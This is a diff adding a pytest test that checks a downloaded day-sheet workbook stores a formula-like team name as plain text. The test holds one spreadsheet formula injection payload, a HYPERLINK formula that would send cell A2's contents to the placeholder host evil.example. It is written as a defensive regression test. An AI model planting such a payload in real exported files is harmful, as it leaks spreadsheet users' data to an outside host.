@@ -389,3 +389,17 @@ def test_cancelling_the_preview_forgets_the_file(client, login, officer, day_of,
     gone = client.get(preview)
     assert gone.status_code == 302 and "/visits/day-sheet/upload?" in gone.headers["Location"]
     assert outcome_events(db_session) == 0
+
+
+def test_a_team_name_that_reads_as_a_formula_stays_text(client, login, officer, day_of, db_session):
+    team, today, _visits = day_of
+    team.name = '=HYPERLINK("http://evil.example/?x="&A2,"klik")'
+    db_session.commit()
+    login(officer)
+
+    workbook = download(client, team, today)
+
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
